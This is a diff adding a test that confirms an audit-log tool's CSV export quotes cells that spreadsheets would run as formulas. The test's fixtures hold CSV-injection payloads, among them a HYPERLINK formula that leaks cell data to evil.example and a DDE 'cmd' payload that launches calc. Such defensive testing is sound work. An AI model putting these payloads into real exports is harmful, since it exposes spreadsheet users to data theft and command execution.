@@ -641,7 +641,12 @@ def test_export_csv_to_a_file_with_filters(trail: Path) -> None:
 def run_bytes(*args: str, cwd: Path) -> subprocess.CompletedProcess[bytes]:
     """`run` without text=True: universal newlines would turn a stored CR into a line break."""
     return subprocess.run(
-        [sys.executable, "-m", "auditbus", *args], check=False, cwd=cwd, env=clean_env(), capture_output=True, timeout=120
+        [sys.executable, "-m", "auditbus", *args],
+        check=False,
+        cwd=cwd,
+        env=clean_env(),
+        capture_output=True,
+        timeout=120,
     )
 
 
@@ -665,6 +670,52 @@ def test_a_carriage_return_in_a_stored_value_cannot_forge_a_csv_row(tmp_path: Pa
         assert [row["user_identity"] for row in rows] == ["mallory\r99"]
         assert rows[0]["project_name"] == "root"
         assert json.loads(rows[0]["details"])["note"] == "a\rb"
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted_reversibly(tmp_path: Path) -> None:
+    """OWASP CSV injection: a stored value such as `=HYPERLINK(...)` must reach the auditor's spreadsheet as text.
+
+    Such a cell (and one already starting with a quote) gets one leading `'`; removing it gives the stored value.
+    """
+    path = tmp_path / "formulas.db"
+    prepare(
+        path,
+        [
+            DomainEvent(
+                event_type=EventType.AUTH_FAILURE,
+                user_identity='=HYPERLINK("http://evil.example/?"&A1,"open")',
+                actor_name="+1+cmd|' /C calc'!A0",
+                plan_id="-2+3",
+                project_name="@SUM(A1:A9)",
+                session_id="\t=1+1",
+                details={"note": "fine"},
+            ),
+            DomainEvent(event_type=EventType.AUTH_FAILURE, user_identity="\r=1+1", actor_name="'quoted"),
+        ],
+    )
+    with sqlite3.connect(path) as connection:  # another writer: details that are a bare JSON number
+        connection.execute(
+            "INSERT INTO audit_log (timestamp, event_type, outcome, details) VALUES (?, ?, ?, ?)",
+            (NOW.isoformat(), "auth_failure", "=2*3", "-1"),
+        )
+    connection.close()
+    stored = jsonl(run("export", "--db", str(path), cwd=tmp_path).stdout)
+    for command in (["export", "--format", "csv"], ["query", "--csv", "--asc"]):
+        result = run_bytes(*command, "--db", str(path), cwd=tmp_path)
+        assert result.returncode == 0, result.stderr
+        rows = list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))
+        assert len(rows) == len(stored) == 3
+        for row, expected in zip(rows, stored, strict=True):
+            for name, cell in row.items():
+                assert not cell.startswith(FORMULA_STARTS), (name, cell)
+                value = cell[1:] if cell.startswith("'") else cell
+                if name in ("user_identity", "actor_name", "plan_id", "project_name", "session_id", "outcome"):
+                    assert value == (expected[name] or ""), name
+        assert json.loads(rows[2]["details"][1:]) == -1
+        assert rows[1]["actor_name"] == "''quoted"
 
 
 def test_export_into_a_missing_directory_is_one_error_line(trail: Path) -> None:
